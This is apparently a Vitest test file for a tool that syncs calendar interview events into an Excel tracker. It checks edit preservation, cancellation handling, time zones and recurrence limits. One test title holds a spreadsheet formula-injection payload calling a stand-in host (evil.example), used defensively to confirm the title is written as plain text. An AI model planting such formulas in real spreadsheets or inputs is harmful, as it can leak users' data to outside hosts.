import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { syncTracker, type SyncTrackerInput } from '../../../server/cli/sync-tracker.js';
import { calendar } from '../ics/fixtures.js';
import { memoryCursors } from './memory-cursors.js';

const event = (uid: string, summary: string, start: string, modified = '20260301T000000Z') => [
  `UID:${uid}`,
  `SUMMARY:${summary}`,
  `DTSTART:${start}`,
  'DURATION:PT1H',
  `LAST-MODIFIED:${modified}`,
];
const screen = event('a', 'Phone screen - Acme', '20260410T160000Z');
const onsite = event('b', 'Onsite interview - Globex', '20260412T140000Z');
const technical = event('c', 'Technical interview - Initech', '20260414T150000Z');
const dentist = event('d', 'Dentist', '20260415T080000Z');

function setup() {
  const dir = mkdtempSync(join(tmpdir(), 'nr-sync-'));
  const ics = join(dir, 'cal.ics');
  const input: SyncTrackerInput = {
    sources: [ics],
    out: join(dir, 'tracker.xlsx'),
    window: () => ({ from: new Date('2026-01-01T00:00:00Z'), to: new Date('2027-01-01T00:00:00Z') }),
    timeZone: 'America/New_York',
    include: undefined,
    exclude: undefined,
    cursors: memoryCursors(),
  };
  return { input, writeCalendar: (...events: string[][]) => writeFileSync(ics, calendar(...events)) };
}

/** The Interviews sheet as header → value records, in sheet order. */
async function readInterviews(path: string): Promise<Record<string, unknown>[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(path);
  const sheet = workbook.getWorksheet('Interviews')!;
  const headers = (sheet.getRow(1).values as unknown[]).map(String);
  const rows: Record<string, unknown>[] = [];
  sheet.eachRow((row, number) => {
    if (number === 1) return;
    const record: Record<string, unknown> = {};
    (row.values as unknown[]).forEach((value, index) => (record[headers[index]!] = value instanceof Date ? value.toISOString() : value));
    rows.push(record);
  });
  return rows;
}

/** What a person does in Excel: notes on every row, an own column, and a sort (newest first). */
async function editLikeAPerson(path: string): Promise<void> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(path);
  const sheet = workbook.getWorksheet('Interviews')!;
  const headers = (sheet.getRow(1).values as unknown[]).map(String);
  const notes = headers.indexOf('Notes');
  const own = headers.length;
  sheet.getRow(1).getCell(own).value = 'My rating';
  const rows = [2, 3, 4].map((number) => {
    const row = sheet.getRow(number);
    row.getCell(notes).value = `notes on ${row.getCell(1).value}`;
    row.getCell(own).value = `rating ${row.getCell(1).value}`;
    return [...(row.values as ExcelJS.CellValue[])];
  });
  // row.values is 1-based with a hole at 0; assigning an array is 0-based, hence slice(1).
  rows.reverse().forEach((values, i) => (sheet.getRow(i + 2).values = values.slice(1)));
  await workbook.xlsx.writeFile(path);
}

describe('syncTracker: .ics into an .xlsx tracker', () => {
  it('imports the interviews of a calendar and skips the rest', async () => {
    const { input, writeCalendar } = setup();
    writeCalendar(screen, onsite, technical, dentist);
    const summary = await syncTracker(input);
    expect([summary.found, summary.added, summary.updated, summary.cancelled, summary.unchanged, summary.skipped]).toEqual([4, 3, 0, 0, 0, 1]);
    const rows = await readInterviews(input.out);
    expect(rows.map((row) => [row['Event ID'], row['Title'], row['Start'], row['Calendar status']])).toEqual([
      ['a', 'Phone screen - Acme', '2026-04-10T12:00:00.000Z', 'confirmed'],
      ['b', 'Onsite interview - Globex', '2026-04-12T10:00:00.000Z', 'confirmed'],
      ['c', 'Technical interview - Initech', '2026-04-14T11:00:00.000Z', 'confirmed'],
    ]);
  });

  it('keeps the person\'s notes, own column and sort order; moves a moved event; marks a removed one cancelled', async () => {
    const { input, writeCalendar } = setup();
    writeCalendar(screen, onsite, technical, dentist);
    await syncTracker(input);
    await editLikeAPerson(input.out);
    writeCalendar(screen, event('b', 'Onsite interview - Globex', '20260413T140000Z', '20260302T000000Z'), dentist);

    const summary = await syncTracker(input);
    expect([summary.found, summary.added, summary.updated, summary.cancelled]).toEqual([3, 0, 1, 1]);
    const rows = await readInterviews(input.out);
    expect(rows.map((row) => [row['Event ID'], row['Start'], row['Calendar status'], row['Notes'], row['My rating']])).toEqual([
      ['c', '2026-04-14T11:00:00.000Z', 'cancelled', 'notes on c', 'rating c'],
      ['b', '2026-04-13T10:00:00.000Z', 'confirmed', 'notes on b', 'rating b'],
      ['a', '2026-04-10T12:00:00.000Z', 'confirmed', 'notes on a', 'rating a'],
    ]);
  });

  it('changes nothing on a rerun of the same calendar', async () => {
    const { input, writeCalendar } = setup();
    writeCalendar(screen, onsite);
    await syncTracker(input);
    const before = await readInterviews(input.out);
    const summary = await syncTracker(input);
    expect([summary.added, summary.updated, summary.cancelled]).toEqual([0, 0, 0]);
    expect(await readInterviews(input.out)).toEqual(before);
  });

  it('imports every event with include "." and none matching exclude', async () => {
    const { input, writeCalendar } = setup();
    writeCalendar(screen, dentist, event('e', 'Lunch with Sam', '20260416T120000Z'));
    const summary = await syncTracker({ ...input, include: /./, exclude: /lunch/i });
    const rows = await readInterviews(input.out);
    expect([summary.added, rows.map((row) => row['Event ID'])]).toEqual([2, ['a', 'd']]);
  });

  it('writes a title that looks like a formula as text', async () => {
    const { input, writeCalendar } = setup();
    writeCalendar(event('f', '=IMPORTXML("https://evil.example","//a") interview', '20260417T120000Z'));
    await syncTracker(input);
    expect((await readInterviews(input.out))[0]!['Title']).toBe('=IMPORTXML("https://evil.example","//a") interview');
  });
});

describe('syncTracker with a series past the work bound', () => {
  it('writes the other events and names the one left out', async () => {
    const { input, writeCalendar } = setup();
    writeCalendar(screen, ['UID:storm', 'SUMMARY:Ping', 'DTSTART:20260101T000000Z', 'RRULE:FREQ=MINUTELY']);
    const summary = await syncTracker(input);
    expect([summary.added, summary.warnings, summary.errors]).toEqual([
      1,
      [],
      [`${input.sources[0]}: event "storm" was left out: its recurrence needs more than 200000 steps to expand.`],
    ]);
  });
});

describe('syncTracker with all-day events', () => {
  it.each(['Pacific/Kiritimati', 'Pacific/Pago_Pago', 'UTC'])('writes the same dates whatever the tracker zone (%s)', async (timeZone) => {
    const { input, writeCalendar } = setup();
    writeCalendar(['UID:allday', 'SUMMARY:Onsite interview - Globex', 'DTSTART;VALUE=DATE:20260309', 'DTEND;VALUE=DATE:20260310']);
    await syncTracker({ ...input, timeZone });
    const row = (await readInterviews(input.out))[0]!;
    expect([row['Start'], row['End']]).toEqual(['2026-03-09T00:00:00.000Z', '2026-03-09T00:00:00.000Z']);
  });
});

describe('syncTracker with two calendars in one tracker', () => {
  function twoCalendars() {
    const { input } = setup();
    const dir = join(input.out, '..');
    const work = join(dir, 'work.ics');
    const home = join(dir, 'home.ics');
    writeFileSync(work, calendar(screen, onsite));
    writeFileSync(home, calendar(technical));
    return { input: { ...input, sources: [work, home] }, work, home };
  }

  it('imports both in one pass', async () => {
    const { input } = twoCalendars();
    const summary = await syncTracker(input);
    expect([summary.found, summary.added, summary.sources.map((s) => s.found)]).toEqual([3, 3, [2, 1]]);
  });

  it('cancels nothing when the state is lost and every calendar is listed in full again', async () => {
    const { input } = twoCalendars();
    await syncTracker(input);
    const summary = await syncTracker({ ...input, cursors: memoryCursors() });
    expect([summary.added, summary.updated, summary.cancelled, summary.unchanged]).toEqual([0, 0, 0, 3]);
  });

  it('marks cancelled only the event that left its calendar', async () => {
    const { input, home } = twoCalendars();
    await syncTracker(input);
    writeFileSync(home, calendar(dentist));
    const summary = await syncTracker(input);
    const rows = await readInterviews(input.out);
    expect([summary.cancelled, rows.map((row) => `${row['Event ID']}:${row['Calendar status']}`)]).toEqual([
      1,
      ['a:confirmed', 'b:confirmed', 'c:cancelled'],
    ]);
  });
});
